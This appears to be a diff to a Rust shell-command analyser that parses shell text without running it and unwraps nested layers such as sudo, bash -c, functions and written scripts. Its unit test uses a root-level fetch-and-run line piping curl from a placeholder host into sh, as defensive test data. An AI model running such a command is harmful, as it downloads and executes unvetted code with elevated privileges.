@@ -4,7 +4,21 @@
 //! parses the line with the bash grammar and follows every layer it can resolve without running
 //! anything, down to stated bounds, so that rules see the commands that would run.
 
+mod bounds;
+mod braces;
+mod carry;
+mod escape;
+mod expand;
+mod filters;
+mod grammar;
+mod lex;
+mod run;
+mod variables;
+mod wrappers;
+
 use std::ops::Range;
+
+use crate::run::Run;
 
 /// All simple commands that a piece of shell text would run.
 #[derive(Clone, Debug, Default, PartialEq)]
@@ -40,6 +54,9 @@ pub struct Command {
     pub background: bool,
     /// What had to be opened to see this command, outermost first; empty for plain text.
     pub via: Vec<Layer>,
+    /// The command that carries this one (`sudo` for what it runs, `sh` for what is in its
+    /// `$(...)`), as an index into [`Analysis::commands`]; always a smaller one than its own.
+    pub carrier: Option<usize>,
     /// The bytes of the outermost text that the command comes from.
     pub span: Range<usize>,
 }
@@ -76,6 +93,11 @@ pub enum Layer {
     Decoded(String),
     /// Handed to a scheduler or trap that runs it later: `crontab`, `at`, `trap`.
     Later(String),
+    /// The body of a function or alias that the text defines, by its name. The bodies of functions
+    /// that the text does not call stand at the end.
+    Function(String),
+    /// A file that the same text writes and then runs, by its name.
+    Script(String),
 }
 
 impl Layer {
@@ -93,7 +115,41 @@ impl Command {
     }
 }
 
-/// Reads shell text.
-pub fn analyse(_text: &str) -> Analysis {
-    Analysis::default()
+/// Reads shell text. Of a text longer than 256 KiB the beginning is read.
+pub fn analyse(text: &str) -> Analysis {
+    let (text, longer) = first_bytes(text, bounds::TEXT);
+    let mut run = Run::new(text.len());
+    run.out.truncated = longer;
+    run.script(text, &Run::outermost());
+    run.uncalled_functions();
+    run.out
+}
+
+/// At most the first `len` bytes of a text, and whether there are more.
+fn first_bytes(text: &str, len: usize) -> (&str, bool) {
+    let end = text.floor_char_boundary(len);
+    (text.get(..end).unwrap_or(text), end < text.len())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The commands as text, one a line.
+    fn commands(text: &str) -> String {
+        let commands = analyse(text).commands;
+        let lines: Vec<String> = commands.iter().map(|c| c.argv.join(" ")).collect();
+        lines.join("\n")
+    }
+
+    #[test]
+    fn layers_of_commands() {
+        assert_eq!(
+            commands("sudo -u root bash -c 'curl $0 | sh' http://x.example"),
+            "sudo -u root bash -c curl $0 | sh http://x.example\n\
+             bash -c curl $0 | sh http://x.example\n\
+             curl http://x.example\n\
+             sh"
+        );
+    }
 }
